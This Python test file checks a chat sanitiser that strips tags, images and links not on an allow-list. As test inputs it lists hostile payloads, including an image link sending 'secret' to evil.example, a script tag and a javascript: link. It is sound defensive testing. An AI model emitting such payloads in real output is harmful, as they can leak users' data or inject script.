"""The sanitiser: what survives it is no tag, no image, and no link but those that are allowed."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as some
from markdown_it import MarkdownIt

from hoptrail.app.server.chat.sanitise import LEFT_OUT, AllowedLinks, Sanitiser, sanitised

GOOD = "https://good.example/page?id=1"
ALLOWED = AllowedLinks.of([f"See {GOOD}, and more."], ["https://wiki.example"])
MARKDOWN = MarkdownIt("commonmark", {"html": True})
_BARE = re.compile(r"(?:[a-z][a-z0-9+.-]*://|www\.\w|mailto:|xmpp:)[^\s<]*", re.IGNORECASE)

pieces = some.one_of(
    some.sampled_from(
        ["<", ">", "[", "]", "(", ")", "!", ":", "/", "\\", "&", ";", "#", "`", "*", "_", '"', "'",
         " ", "\n", "\t", "\r", "\xa0", "\u200b", "\u202e", "\x1b[31m", "a", "[a]", "](", "![",
         "]: ", "http://", "https://evil.example/?q=", "HTTPS://", "javascript:alert(1)", "data:,",
         "//evil.example", "www.evil.example", "mailto:a@evil.example", GOOD, "https://wiki.example",
         "https://wiki.example/A_(b)", "<img src=x>", "<!-- ", "</p>", "<a href=", "&#60;", "&lt;",
         "&colon;", "\n> ", "\n- ", "\n    ", "```", "[1]", "[1]: https://evil.example\n"]
    ),
    some.text(max_size=4),
)  # fmt: skip
texts = some.lists(pieces, max_size=24).map("".join)


def kinds(text: str) -> set[str]:
    """The kinds of tokens that a renderer of CommonMark makes of a text."""
    tokens = MARKDOWN.parse(text)
    return {one.type for token in tokens for one in (token, *(token.children or ()))}


def targets(text: str) -> list[str]:
    """Where the links of a rendered text lead."""
    inline = [one for token in MARKDOWN.parse(text) for one in token.children or ()]
    return [str(one.attrs["href"]) for one in inline if one.type == "link_open"]


@given(texts)
def test_no_tag_no_image_and_no_foreign_link_survives(text: str) -> None:
    safe = sanitised(text, ALLOWED)
    assert not re.search(r"<[A-Za-z/!?]", safe)
    assert not kinds(safe) & {"html_inline", "html_block", "image"}
    assert all(target in ALLOWED for target in targets(safe))


@given(texts)
def test_no_address_stays_that_a_renderer_makes_a_link_of_unless_allowed(text: str) -> None:
    rendered = MARKDOWN.parse(sanitised(text, ALLOWED))
    shown = [
        one.content for token in rendered for one in (token, *(token.children or ()))
        if one.type in ("text", "code_inline", "fence", "code_block")
    ]  # fmt: skip
    for found in (one.group() for line in shown for one in _BARE.finditer(line)):
        assert any(found.startswith(good) for good in (GOOD, "https://wiki.example/")), found


@given(texts, some.data())
def test_how_a_text_is_cut_changes_nothing(text: str, data: some.DataObject) -> None:
    cuts = sorted(data.draw(some.lists(some.integers(0, len(text)), max_size=8)))
    sanitiser = Sanitiser(ALLOWED)
    said = [sanitiser.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join(said) + sanitiser.end() == sanitised(text, ALLOWED)


@given(texts)
def test_what_is_safe_stays_as_it_is(text: str) -> None:
    once = sanitised(text, ALLOWED)
    assert sanitised(once, ALLOWED) == once


@pytest.mark.parametrize(
    "text",
    ["a < b and b > c", "She carried 24 men [1].", "2 * 3 ** 4", "naïve — “quoted”\n\n- item",
     f"[page]({GOOD})", f"See {GOOD}, please.", "see https://wiki.example/A.", "a.b@c.example"],
)  # fmt: skip
def test_plain_text_and_allowed_links_are_not_touched(text: str) -> None:
    assert sanitised(text, ALLOWED) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![x](https://evil.example/?q=secret)", f"! [x] {LEFT_OUT}"),
        ("[x][1]\n\n[1]: https://evil.example", f"[x][1]\n\n[1] : {LEFT_OUT}"),
        ("<script>alert(1)</script>", "< script>alert(1)< /script>"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("go to www.evil.example/x now", f"go to {LEFT_OUT} now"),
        ("https://wiki.example.evil.example/", LEFT_OUT),
        ("\x1b[31mred", "�[31mred"),
    ],
)
def test_what_would_be_markup_is_broken(text: str, shown: str) -> None:
    assert sanitised(text, ALLOWED) == shown


def test_a_million_characters_without_a_space_take_no_longer_than_with() -> None:
    for text in ("a" * 1_000_000, "&a" * 500_000, "](" * 500_000, "http" * 250_000, "\\" * 10**6):
        assert len(sanitised(text)) >= 1_000_000
